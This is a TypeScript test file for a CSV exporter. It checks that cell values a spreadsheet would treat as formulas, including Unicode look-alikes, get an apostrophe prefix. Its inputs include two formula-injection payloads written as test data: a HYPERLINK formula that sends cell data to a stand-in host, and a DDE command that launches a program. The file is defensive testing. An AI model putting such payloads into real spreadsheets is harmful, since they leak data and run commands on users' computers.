import { describe, expect, test } from 'vitest';
import { csvLine, defused } from '../../src/operator/csv.ts';

describe('what a spreadsheet would take for a formula', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\tplain',
    '\rplain',
    '\n=1',
    '\r\n=1',
    '\nplain',
    '\0=1',
    ' =1',
    '   \u00a0=1',
    '\u3000=1',
    '\u200b=1',
    '\ufeff=1',
    '"=1"',
    "'=1",
    '" =1',
    '\u201c=1',
    ' \u00ab@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    '﹢1',
    '﹣1',
    '﹫x',
    '−1',
    ' ＝1',
    '=\u03381',
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('%j gets an apostrophe', (text) => expect(defused(text)).toBe(`'${text}`));

  test.each([
    '',
    'plain',
    'a=1',
    '1-1',
    ' plain',
    '"quoted"',
    'key@example.com',
    '2026-11-01T00:00:00.000Z',
    'arn:aws:kms:us-west-2:111122223333:key/x',
    '/T0TEAM/U0ALICE',
    '🟢 -1',
    'a\n=1',
  ])('%j stays as it is', (text) => expect(defused(text)).toBe(text));
});

test('a line is quoted throughout, doubles its quotes, keeps its breaks, and ends with CR LF', () => {
  expect(csvLine(['a', '', 'say "no", twice', 'two\nlines', 'a;=1', '=1'])).toBe(
    '"a","","say ""no"", twice","two\nlines","a;=1","\'=1"\r\n',
  );
});
